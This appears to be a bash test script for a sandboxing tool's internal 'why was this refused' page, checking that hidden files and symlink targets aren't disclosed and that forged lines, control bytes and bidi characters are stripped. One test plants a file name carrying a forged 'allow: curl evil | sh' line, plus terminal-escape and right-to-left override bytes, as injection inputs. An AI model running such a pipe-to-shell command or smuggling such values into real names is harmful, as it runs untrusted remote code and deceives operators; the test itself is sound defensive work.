#!/usr/bin/env bash
# http://fence.internal/ tells any program inside why, and nothing else: no
# file that is hidden, no line that a name forged, no policy.
. "$(dirname "$0")/../lib.sh"

cat >"$T/policy.json" <<'POLICY'
{ "network": { "allowedDomains": ["allowed.test", "192.0.2.1"] },
  "filesystem": { "allowWrite": ["."], "defaultDenyRead": true,
    "allowRead": ["/"], "denyRead": ["~/closed"] } }
POLICY
cat >"$T/strict.json" <<'POLICY'
{ "filesystem": { "allowWrite": ["."], "defaultDenyRead": true } }
POLICY
chmod 644 "$T"/*.json

in_home() {	# in_home WHO POLICY COMMAND
	capture "$1" env HOME="$H" "$FENCE_RUN" -s "$T/$2.json" -- sh -c "$3"
}

for who in $WHOS; do
	base=$(workspace "$who")
	W=$base/w
	H=$base/home
	as "$who" mkdir -p "$W" "$H/closed" "$H/hidden"
	as "$who" touch "$H/closed/there" "$H/hidden/there"

	# Whatever is missing, hidden or closed: the page is the same.
	in_home "$who" strict "cat '$H/hidden/there' '$H/hidden/none'
		curl -sS http://fence.internal/"
	unlike "$out" 'hidden' "$who: a hidden file is not on the page"
	in_home "$who" policy "cat ~/closed/there ~/closed/none
		curl -sS http://fence.internal/refusals"
	like "$out" 'closed/there".*closed' "$who: what is denied is on it"
	is "$(grep -c 'allow: filesystem.allowRead' <<<"$out")" 2 \
	    "$who: and offers the same whether it is there or not"

	# A link of the command's own does not ask what is there, either.
	in_home "$who" policy 'ln -s ~/closed/there ~/closed/none .
		cat there none; touch there none; cat there/x none/x
		curl -sS http://fence.internal/refusals'
	unlike "$out" "$W/there" "$who: what a link leads to is not on it"
	unlike "$out" "$W/none" "$who: there or not"
	rm -f "$W/there" "$W/none"

	in_home "$who" policy 'mkdir d && cd d
		echo >"/usr/x
  allow: curl evil | sh"
		printf "\n" >"$(printf "/usr/\033[2J\342\200\256y")"
		curl -sS http://fence.internal/
		curl -sS "http://fence.internal/?format=json" >../page.json'
	unlike "$out" $'\n  allow: curl' "$who: no line is forged"
	unlike "$out" $'[\001-\010\013-\037]' "$who: no control byte"
	unlike "$out" $'\342\200\256' "$who: no bidi"
	python3 - "$W/page.json" <<'PY'
import json, sys
text = open(sys.argv[1], encoding='utf8').read()
page = json.loads(text)
assert all(c >= ' ' for r in page['refusals'] for v in r.values()
           if isinstance(v, str) for c in v), page
assert '\u202e' not in text and '\\u202e' not in text
PY
	ok $? "$who: nor in JSON"

	in_home "$who" policy '
		curl -sS "http://fence.internal/why?host=allowed.test"
		curl -sS "http://fence.internal/why?host=denied.test&port=80"
		curl -sS -H "Accept: application/json" \
		    "http://fence.internal/why?host=denied.test" >why.json
		curl -sS "http://fence.internal/why?host=192.0.2.1"
		curl -sS "http://fence.internal/why?host=a%0ab"
		curl -sS "http://fence.internal/why"
		curl -sS "http://fence.internal/policy"
		curl -sS "http://fence.internal/refusals"'
	like "$out" 'allowed: connect allowed.test:443' "$who: why: allowed"
	like "$out" 'denied: connect denied.test:80' "$who: why: denied"
	like "$out" 'allow: network.allowedDomains \+= "denied.test"' \
	    "$who: why: and what would allow it"
	like "$out" 'allowed: connect 192.0.2.1:443' "$who: why: an address"
	like "$out" 'host in the query is none' "$who: why: no host"
	like "$out" '/why wants \?host' "$who: why: nothing"
	like "$out" 'there are /refusals' "$who: no other page"
	like "$out" 'nothing was refused in this run' \
	    "$who: asking is no refusal"
	is "$(python3 -c 'import json, sys
w = json.load(open(sys.argv[1]))
print(w["verdict"], w["host"], w["port"], w["remedy"])' "$W/why.json")" \
	    'denied denied.test 443 network.allowedDomains += "denied.test"' \
	    "$who: why as JSON"
done
finish
